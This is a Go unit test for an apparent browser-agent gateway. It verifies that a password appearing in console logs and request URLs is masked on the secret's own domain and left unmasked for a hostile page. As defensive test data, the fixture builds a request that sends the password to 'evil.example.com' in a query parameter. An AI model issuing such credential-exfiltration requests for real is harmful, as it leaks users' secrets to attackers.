package executor

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"

	"github.com/browsergate/browsergate/internal/testkit"
	"github.com/browsergate/browsergate/toolclad"
)

// TestLogEntriesAreMaskedForWhereTheyWereLogged: an entry of the tab's
// logs is masked for the secrets of the page it was logged on, whatever
// page the tab is on when the agent reads it; and only for those: what a
// page off the secret's domains logs or sends once the tab has left the
// site, at once (a hostile page printing candidates as it loads), comes
// back as it was, so the log replies are no oracle.
func TestLogEntriesAreMaskedForWhereTheyWereLogged(t *testing.T) {
	const value = "Zq8-Lm2_Vx7-Kp4"
	m := testkit.SecretManifest(t, value) // PW on login.example.com, *.auth.example.com
	s := maskSession(t, m)
	s.egress.bound.Bind("login.example.com", []*toolclad.Secret{m.Secrets[0]}, s.secrets.Load())
	l := newPageLog("main")
	text, _ := json.Marshal("pw " + value)
	logBoth := func(doc string) {
		committed(l, "main", "", doc)
		l.record(&runtime.EventConsoleAPICalled{Type: runtime.ConsoleAPICalledTypeLog,
			Args: []*runtime.RemoteObject{{Type: runtime.RemoteObjectTypeString, Value: text}}})
		request(l, network.RequestID(doc), "main", network.ResourceTypeFetch, "https://evil.example.com/?pw="+value)
	}
	logBoth("login.example.com") // the secret's page logs and sends it off its domains
	s.egress.bound.Committed("hostile.example.com")
	logBoth("hostile.example.com") // a page the agent navigated to prints a guess, at once
	s.observed("https://hostile.example.com/")

	for i, want := range []bool{true, false} {
		what := map[bool]string{true: "logged on the secret's page", false: "logged off its domains just after leaving"}[want]
		c := l.console[i]
		mask, _ := s.logMask(c.logged)
		if got := mask(c.Text); strings.Contains(got, value) == want {
			t.Errorf("a console message %s reads %q", what, got)
		}
		r := *l.requests[i]
		s.shown(&r, nil)
		if strings.Contains(r.URL, value) == want {
			t.Errorf("a request %s reads %q", what, r.URL)
		}
	}
}
